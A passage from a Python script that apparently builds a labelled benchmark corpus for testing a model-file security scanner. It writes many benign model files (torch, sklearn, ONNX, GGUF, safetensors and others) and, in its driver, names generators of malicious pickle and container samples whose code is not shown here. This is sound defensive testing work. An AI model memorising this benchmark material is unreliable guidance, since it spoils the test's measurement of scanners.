    }
    _good(c, fam, "many_dtypes.pt", save(dtypes), "tensors of eight dtypes", "torch")
    base = torch.arange(24.0)
    _good(
        c,
        fam,
        "shared_views.pt",
        save({"base": base, "view": base[4:10], "t": base.view(4, 6).t()}),
        "tensors sharing one storage (views, transposes)",
        "torch",
    )
    _good(
        c,
        fam,
        "legacy_format.pt",
        save(model.state_dict(), _use_new_zipfile_serialization=False),
        "legacy non-zip torch.save format",
        "torch",
    )
    quantized = torch.ao.quantization.quantize_dynamic(
        torch.nn.Sequential(torch.nn.Linear(16, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2)),
        {torch.nn.Linear},
        dtype=torch.qint8,
    )
    _good(
        c,
        fam,
        "quantized_dynamic_state_dict.pt",
        save(quantized.state_dict()),
        "torch.ao.quantization.quantize_dynamic state_dict",
        "torch",
    )
    _good(
        c,
        fam,
        "quantized_dynamic_module.pt",
        save(quantized),
        "whole dynamically quantized module",
        "torch",
    )
    per_channel = torch.quantize_per_channel(
        torch.randn(4, 3),
        torch.tensor([0.1, 0.2, 0.3, 0.4]),
        torch.tensor([0, 0, 0, 0]),
        0,
        torch.qint8,
    )
    per_tensor = torch.quantize_per_tensor(torch.randn(5), 0.05, 3, torch.quint8)
    _good(
        c,
        fam,
        "quantized_tensors.pt",
        save({"pc": per_channel, "pt": per_tensor}),
        "per-channel and per-tensor quantized tensors",
        "torch",
    )
    dense = torch.tensor([[0.0, 1.5, 0.0], [2.0, 0.0, 0.0], [0.0, 0.0, 3.0]])
    _good(
        c,
        fam,
        "sparse_tensors.pt",
        save(
            {"coo": dense.to_sparse(), "csr": dense.to_sparse_csr(), "csc": dense.to_sparse_csc()}
        ),
        "sparse COO, CSR and CSC tensors",
        "torch",
    )
    import argparse

    args = argparse.Namespace(arch="transformer", lr=5e-4, layers=6, share_embeddings=True)
    _good(
        c,
        fam,
        "checkpoint_with_namespace.pt",
        save({"args": args, "model": model.state_dict()}),
        "fairseq-style checkpoint storing an argparse.Namespace",
        "torch",
    )

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)
            self.scale = 2.0

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(self.fc(x)) * self.scale

    traced = io.BytesIO()
    torch.jit.save(torch.jit.trace(Tiny(), torch.zeros(1, 4)), traced)
    _good(
        c,
        fam,
        "torchscript_traced.pt",
        traced.getvalue(),
        "torch.jit.save of a traced module",
        "torchscript",
    )
    scripted = io.BytesIO()
    torch.jit.save(torch.jit.script(model), scripted)
    _good(
        c,
        fam,
        "torchscript_scripted.pt",
        scripted.getvalue(),
        "torch.jit.save of a scripted nn.Sequential",
        "torchscript",
    )


def benign_sklearn(c: Corpus) -> None:
    import joblib
    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC

    fam = "sklearn"
    rng = np.random.default_rng(0)
    x = rng.normal(size=(200, 4))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    xc = np.column_stack([x[:, :3], rng.integers(0, 4, size=200)])
    models = {
        "logistic_regression": LogisticRegression(max_iter=200).fit(x, y),
        "random_forest": RandomForestClassifier(n_estimators=10, random_state=0).fit(x, y),
        "gradient_boosting": GradientBoostingClassifier(n_estimators=10, random_state=0).fit(x, y),
        "pipeline_column_transformer": Pipeline(
            [
                (
                    "prep",
                    ColumnTransformer(
                        [
                            ("num", StandardScaler(), [0, 1, 2]),
                            ("cat", OneHotEncoder(handle_unknown="ignore"), [3]),
                        ]
                    ),
                ),
                ("clf", LogisticRegression(max_iter=200)),
            ]
        ).fit(xc, y),
        "kmeans": KMeans(n_clusters=3, n_init=3, random_state=0).fit(x),
        "scaler_svc": Pipeline([("scale", StandardScaler()), ("svc", SVC(random_state=0))]).fit(
            x, y
        ),
        "tfidf_vectorizer": TfidfVectorizer().fit(
            ["the model scans files", "files hold weights", "weights load fast"]
        ),
        "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=50, random_state=0).fit(x, y),
    }
    for name, model in models.items():
        _good(
            c,
            fam,
            f"{name}.pkl",
            pickle.dumps(model),
            f"pickle.dumps({type(model).__name__})",
            "pickle",
        )
    for name, compress in (
        ("logistic_regression", 0),
        ("random_forest", 3),
        ("gradient_boosting", ("lz4", 3)),
        ("pipeline_column_transformer", ("xz", 3)),
        ("kmeans", ("gzip", 3)),
        ("scaler_svc", ("bz2", 3)),
        ("mlp", ("zlib", 3)),
    ):
        buf = io.BytesIO()
        joblib.dump(models[name], buf, compress=compress)
        label = compress if isinstance(compress, int) else compress[0]
        _good(
            c,
            fam,
            f"{name}_compress_{label}.joblib",
            buf.getvalue(),
            f"joblib.dump({type(models[name]).__name__}, compress={compress!r})",
            "joblib",
        )
    buf = io.BytesIO()
    joblib.dump({"X": x, "y": y}, buf, compress=3)
    _good(
        c, fam, "arrays_compress_3.joblib", buf.getvalue(), "joblib.dump of numpy arrays", "joblib"
    )


def benign_numpy_pandas(c: Corpus) -> None:
    import numpy as np

    fam = "numpy"
    rng = np.random.default_rng(1)

    def npy(arr: Any) -> bytes:
        buf = io.BytesIO()
        np.save(buf, arr)
        return buf.getvalue()

    _good(
        c,
        fam,
        "float32.npy",
        npy(rng.normal(size=(64, 32)).astype(np.float32)),
        "np.save of a float32 matrix",
        "npy",
    )
    _good(
        c,
        fam,
        "fortran_order.npy",
        npy(np.asfortranarray(rng.normal(size=(8, 5)))),
        "np.save of a Fortran-ordered array",
        "npy",
    )
    structured = np.zeros(4, dtype=[("id", "<i8"), ("score", "<f4"), ("tag", "S8")])
    _good(c, fam, "structured.npy", npy(structured), "np.save of a structured dtype", "npy")
    buf = io.BytesIO()
    np.savez(buf, w=rng.normal(size=(4, 4)), b=np.zeros(4))
    _good(c, fam, "weights.npz", buf.getvalue(), "np.savez", "npz")
    buf = io.BytesIO()
    np.savez_compressed(buf, w=rng.normal(size=(16, 16)), b=np.arange(16))
    _good(c, fam, "weights_compressed.npz", buf.getvalue(), "np.savez_compressed", "npz")

    def with_pandas() -> None:
        import joblib
        import pandas as pd

        df = pd.DataFrame(
            {
                "a": np.arange(5),
                "b": list("vwxyz"),
                "c": pd.Categorical(["p", "q", "p", "q", "p"]),
                "t": pd.date_range("2024-01-01", periods=5),
            }
        )
        _good(
            c, "pandas", "dataframe.pkl", pickle.dumps(df), "pickle of a pandas DataFrame", "pickle"
        )
        _good(
            c,
            "pandas",
            "series.pkl",
            pickle.dumps(df["a"] * 1.5),
            "pickle of a pandas Series",
            "pickle",
        )
        buf = io.BytesIO()
        joblib.dump(df, buf, compress=3)
        _good(
            c, "pandas", "dataframe.joblib", buf.getvalue(), "joblib.dump of a DataFrame", "joblib"
        )

    c.attempt("pandas pickles", with_pandas)
    plain = {
        "vocab": {"a": 0, "b": 1},
        "sizes": (3, 4),
        "tags": {"x", "y"},
        "frozen": frozenset({1, 2}),
        "blob": b"\x00\x01",
        "ratio": 0.5,
        "none": None,
    }
    _good(
        c,
        "python",
        "plain_data_p0.pkl",
        pickle.dumps(plain, protocol=0),
        "plain Python containers, protocol 0",
        "pickle",
    )
    _good(
        c,
        "python",
        "plain_data_p5.pkl",
        pickle.dumps(plain, protocol=5),
        "plain Python containers, protocol 5",
        "pickle",
    )


def benign_safetensors(c: Corpus) -> None:
    import numpy as np
    import torch
    from safetensors.numpy import save as np_save
    from safetensors.torch import save as torch_save

    fam = "safetensors"
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(16, 8), torch.nn.Linear(8, 2))
    _good(
        c,
        fam,
        "torch_model.safetensors",
        torch_save(model.state_dict()),
        "safetensors.torch.save of a state_dict",
        "safetensors",
    )
    _good(
        c,
        fam,
        "numpy.safetensors",
        np_save({"w": np.ones((8, 8), np.float16), "ids": np.arange(10, dtype=np.int64)}),
        "safetensors.numpy.save",
        "safetensors",
    )
    _good(
        c,
        fam,
        "with_metadata.safetensors",
        torch_save(
            {"emb": torch.zeros(32, 4, dtype=torch.bfloat16)},
            metadata={"format": "pt", "source": "stockade-corpus"},
        ),
        "safetensors with __metadata__",
        "safetensors",
    )


def benign_onnx(c: Corpus) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    fam = "onnx"

    def exported() -> None:
        import torch

        model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
        target = c.path("benign", fam, "torch_export.onnx")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            torch.onnx.export(model, (torch.zeros(1, 4),), str(target), dynamo=False)
        c.record("benign", fam, target, "torch.onnx.export (TorchScript exporter)", "onnx")

    c.attempt("torch.onnx.export", exported)
    weight = numpy_helper.from_array(np.ones((4, 4), np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["H"]), helper.make_node("Relu", ["H"], ["Y"])],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])],
        [weight],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.checker.check_model(model)
    _good(c, fam, "helper_model.onnx", model.SerializeToString(), "onnx.helper model", "onnx")
    folder = c.path("benign", fam, "external_data") / "model.onnx"
    folder.parent.mkdir(parents=True, exist_ok=True)
    onnx.save_model(
        model,
        str(folder),
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="weights.bin",
        size_threshold=0,
    )
    c.record("benign", fam, folder.parent, "onnx.save_model with external data beside it", "onnx")


def benign_keras_h5(c: Corpus) -> None:
    fam = "keras"

    def keras_models() -> None:
        import keras

        model = keras.Sequential(
            [
                keras.Input((8,)),
                keras.layers.Dense(4, activation="relu"),
                keras.layers.Dropout(0.1),
                keras.layers.Dense(2, activation="softmax"),
            ]
        )
        model.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
        target = c.path("benign", fam, "dense.keras")
        model.save(target)
        c.record("benign", fam, target, "keras .keras model (torch backend)", "keras")
        h5 = c.path("benign", fam, "dense_legacy.h5")
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            model.save(h5)
        c.record("benign", fam, h5, "keras legacy HDF5 full model", "keras-h5")
        weights = c.path("benign", fam, "dense.weights.h5")
        model.save_weights(weights)
        c.record("benign", fam, weights, "keras weights-only .weights.h5", "keras-h5")

    c.attempt("keras models", keras_models)
    import h5py
    import numpy as np

    target = c.path("benign", "h5py", "weights_only.h5")
    with h5py.File(target, "w") as f:
        group = f.create_group("model_weights/dense")
        group.create_dataset("kernel:0", data=np.ones((4, 2), np.float32))
        group.create_dataset("bias:0", data=np.zeros(2, np.float32))
        f.attrs["layer_names"] = [b"dense"]
    c.record("benign", "h5py", target, "h5py weights-only file", "h5")


GGUF_CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content']"
    " + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|im_start|>assistant\n' }}{% endif %}"
)
GGUF_LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}"
    "{% endif %}"
)
GGUF_TOOLS = (
    "{%- if tools %}{{- '<|im_start|>system\n' }}{%- if messages[0]['role'] == 'system' %}"
    "{{- messages[0]['content'] }}{%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}"
    "{{- '\n\n# Tools\n\n<tools>' }}{%- for tool in tools %}{{- '\n' }}{{- tool | tojson }}"
    "{%- endfor %}{{- '\n</tools><|im_end|>\n' }}{%- endif %}"
    "{%- set ns = namespace(last_user=0) %}{%- for message in messages %}"
    "{%- if message.role == 'user' %}{%- set ns.last_user = loop.index0 %}{%- endif %}"
    "{%- if message.role == 'assistant' and message.tool_calls is defined %}"
    "{{- '<|im_start|>assistant\n' }}{%- for tool_call in message.tool_calls %}"
    "{{- '<tool_call>\n' + (tool_call.function | tojson) + '\n</tool_call>' }}{%- endfor %}"
    "{{- '<|im_end|>\n' }}{%- elif message.role not in ['user', 'assistant', 'system', 'tool'] %}"
    "{{- raise_exception('Unexpected role: ' ~ message.role) }}{%- else %}"
    "{{- '<|im_start|>' + message.role + '\n' + message.content | default('', true) "
    "+ '<|im_end|>\n' }}{%- endif %}{%- endfor %}"
    "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\n' }}{%- endif %}"
)


def benign_gguf(c: Corpus) -> None:
    import gguf
    import numpy as np

    fam = "gguf"
    for name, template in (
        ("chatml.gguf", GGUF_CHATML),
        ("llama3.gguf", GGUF_LLAMA3),
        ("tool_template.gguf", GGUF_TOOLS),
        ("no_template.gguf", None),
    ):
        target = c.path("benign", fam, name)
        writer = gguf.GGUFWriter(str(target), "llama")
        writer.add_name("corpus-" + name.split(".")[0])
        writer.add_context_length(2048)
        writer.add_embedding_length(8)
        writer.add_block_count(1)
        writer.add_head_count(2)
        writer.add_tokenizer_model("gpt2")
        writer.add_token_list(["<s>", "</s>", "a", "b"])
        writer.add_bos_token_id(0)
        writer.add_eos_token_id(1)
        if template is not None:
            writer.add_chat_template(template)
        rng = np.random.default_rng(2)
        writer.add_tensor("token_embd.weight", rng.normal(size=(4, 8)).astype(np.float32))
        writer.add_tensor("output_norm.weight", np.ones(8, dtype=np.float32))
        writer.add_tensor("blk.0.attn_q.weight", rng.normal(size=(8, 8)).astype(np.float16))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        c.record(
            "benign",
            fam,
            target,
            f"gguf.GGUFWriter with {'a ' + name.split('.')[0] if template else 'no'} chat template",
            "gguf",
        )


def benign_boosting(c: Corpus) -> None:
    import numpy as np

    rng = np.random.default_rng(3)
    x = rng.normal(size=(300, 5))
    y = (x[:, 0] - x[:, 2] > 0).astype(int)

    def xgb() -> None:
        import xgboost

        booster = xgboost.train(
            {"max_depth": 3, "objective": "binary:logistic"},
            xgboost.DMatrix(x, label=y),
            num_boost_round=5,
        )
        for name, fmt in (("booster.json", "xgboost-json"), ("booster.ubj", "xgboost-ubj")):
            target = c.path("benign", "xgboost", name)
            booster.save_model(str(target))
            c.record("benign", "xgboost", target, f"xgboost Booster.save_model ({name})", fmt)
        clf = xgboost.XGBClassifier(n_estimators=5, max_depth=3).fit(x, y)
        _good(
            c,
            "xgboost",
            "classifier.pkl",
            pickle.dumps(clf),
            "pickle of an XGBClassifier",
            "pickle",
        )

    def lgbm() -> None:
        import lightgbm

        booster = lightgbm.train(
            {"objective": "binary", "verbose": -1, "num_leaves": 7},
            lightgbm.Dataset(x, label=y),
            num_boost_round=5,
        )
        target = c.path("benign", "lightgbm", "model.txt")
        booster.save_model(str(target))
        c.record("benign", "lightgbm", target, "LightGBM Booster.save_model (text)", "lightgbm")
        clf = lightgbm.LGBMClassifier(n_estimators=5, num_leaves=7, verbose=-1).fit(x, y)
        _good(
            c,
            "lightgbm",
            "classifier.pkl",
            pickle.dumps(clf),
            "pickle of an LGBMClassifier",
            "pickle",
        )

    c.attempt("xgboost models", xgb)
    c.attempt("lightgbm models", lgbm)


def benign_hf_folder(c: Corpus) -> None:
    import torch
    from safetensors.torch import save_file

    root = c.path("benign", "hf-folder", "bert_like") / "config.json"
    root.parent.mkdir(parents=True, exist_ok=True)
    root.write_text(
        json.dumps(
            {
                "architectures": ["BertForSequenceClassification"],
                "model_type": "bert",
                "hidden_size": 8,
                "num_attention_heads": 2,
                "num_hidden_layers": 1,
                "vocab_size": 16,
                "torch_dtype": "float32",
                "transformers_version": "4.46.0",
            },
            indent=2,
        )
    )
    (root.parent / "tokenizer_config.json").write_text(
        json.dumps(
            {
                "tokenizer_class": "BertTokenizer",
                "do_lower_case": True,
                "model_max_length": 512,
                "chat_template": GGUF_CHATML,
            },
            indent=2,
        )
    )
    (root.parent / "generation_config.json").write_text(json.dumps({"max_new_tokens": 32}))
    (root.parent / "vocab.txt").write_text("\n".join(["[PAD]", "[UNK]", "[CLS]", "[SEP]", "a"]))
    save_file(
        {"bert.embeddings.word_embeddings.weight": torch.zeros(16, 8)},
        str(root.parent / "model.safetensors"),
    )
    c.record(
        "benign",
        "hf-folder",
        root.parent,
        "Hugging Face folder: config.json without auto_map, tokenizer, safetensors",
        "hf-folder",
    )


# -- driver -------------------------------------------------------------------------------

MALICIOUS = (
    pickle_direct,
    pickle_obfuscated_names,
    pickle_dotted,
    pickle_trampolines,
    pickle_eval_stdlib,
    pickle_uncommon_primitives,
    pickle_code_objects,
    pickle_nested,
    pickle_discarded,
    pickle_broken_tail,
    containers_torch,
    containers_zip_tricks,
    containers_archives,
    containers_joblib,
    containers_numpy,
    containers_keras,
    containers_savedmodel,
    containers_onnx,
    containers_gguf,
    containers_hf,
    containers_safetensors,
)
BENIGN = (
    benign_torch,
    benign_sklearn,
    benign_numpy_pandas,
    benign_safetensors,
    benign_onnx,
    benign_keras_h5,
    benign_gguf,
    benign_boosting,
    benign_hf_folder,
)


def _versions() -> dict[str, str]:
    from importlib import metadata

    out = {"python": sys.version.split()[0]}
    for name in (
        "torch",
        "numpy",
        "scikit-learn",
        "joblib",
        "safetensors",
        "onnx",
        "h5py",
        "gguf",
        "xgboost-cpu",
        "xgboost",
        "lightgbm",
        "keras",
        "pandas",
        "py7zr",
        "cloudpickle",
        "dill",
    ):
        try:
            out[name] = metadata.version(name)
        except metadata.PackageNotFoundError:
            continue
    return out


def _clear(out: Path) -> None:
    """Remove a previous corpus; refuse to delete a folder this script did not write."""
    if not out.exists():
        return
    if any(out.iterdir()) and not (out / LABELS).exists():
        raise SystemExit(f"error: {out} is not empty and has no {LABELS}; not deleting it")
    shutil.rmtree(out)


def build(out: Path) -> dict[str, Any]:
    _clear(out)
    out.mkdir(parents=True)
    corpus = Corpus(out)
    started = time.perf_counter()
    for step in (*MALICIOUS, *BENIGN):
        print(f"[corpus] {step.__name__}", file=sys.stderr, flush=True)
        corpus.attempt(step.__name__, lambda step=step: step(corpus))
    seen: set[str] = set()
    for sample in corpus.samples:
        for name in sample.files:
            if name in seen:
                raise RuntimeError(f"{name} belongs to two samples")
            seen.add(name)
    counts = {
        label: sum(1 for s in corpus.samples if s.label == label)
        for label in ("malicious", "benign")
    }
    labels = {
        "schema": 1,
        "generated_by": "bench/model_scan/build_corpus.py",
        "payloads": {"command": CMD, "code": CODE, "network": f"{LOOPBACK[0]}:{LOOPBACK[1]}"},
        "versions": _versions(),
        "counts": counts,
        "skipped": corpus.skipped,
        "samples": [dataclasses.asdict(s) for s in corpus.samples],
    }
    (out / LABELS).write_text(json.dumps(labels, indent=1) + "\n")
    print(
        f"[corpus] {counts['malicious']} malicious, {counts['benign']} benign samples in "
        f"{time.perf_counter() - started:.1f} s -> {out}",
        file=sys.stderr,
    )
    return labels


def build_large(folder: Path, mib: int) -> dict[str, str]:
    """Large benign files for throughput: a safetensors file, a pickled numpy array, and a
    torch.save of one tensor, each about `mib` MiB. Existing files of the right size stay."""
    import numpy as np

    folder.mkdir(parents=True, exist_ok=True)
    count = mib * MIB // 4
    paths = {
        "safetensors": folder / f"large_{mib}mib.safetensors",
        "pickle": folder / f"large_{mib}mib.pkl",
        "torch": folder / f"large_{mib}mib.pt",
    }

    def fresh(path: Path) -> bool:
        return path.exists() and path.stat().st_size >= mib * MIB

    arr = None
    if not all(fresh(p) for p in paths.values()):
        arr = np.random.default_rng(4).standard_normal(count, dtype=np.float32)
    if not fresh(paths["safetensors"]):
        from safetensors.numpy import save_file

        print(f"[large] writing {paths['safetensors']}", file=sys.stderr)
        save_file({"embedding.weight": arr.reshape(-1, 1024)}, str(paths["safetensors"]))
    if not fresh(paths["pickle"]):
        print(f"[large] writing {paths['pickle']}", file=sys.stderr)
        with open(paths["pickle"], "wb") as handle:
            pickle.dump({"embedding.weight": arr.reshape(-1, 1024)}, handle)
    if not fresh(paths["torch"]):
        import torch

        print(f"[large] writing {paths['torch']}", file=sys.stderr)
        torch.save({"embedding.weight": torch.from_numpy(arr).reshape(-1, 1024)}, paths["torch"])
    return {kind: str(path) for kind, path in paths.items()}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="corpus folder")
    parser.add_argument(
        "--large",
        type=Path,
        default=None,
        metavar="DIR",
        help="also write the large throughput files into DIR",
    )
    parser.add_argument("--large-mib", type=int, default=1024, help="size of each large file")
    parser.add_argument("--large-only", action="store_true", help="only the large files")
    args = parser.parse_args(argv)
    # The libraries' deprecation chatter is not about the files; keep the log readable.
    warnings.simplefilter("ignore")
    logging.getLogger("absl").setLevel(logging.ERROR)
    if not args.large_only:
        build(args.out)
    if args.large is not None or args.large_only:
        paths = build_large(args.large or DEFAULT_LARGE, args.large_mib)
        print(json.dumps(paths))
    return 0


if __name__ == "__main__":
    sys.exit(main())
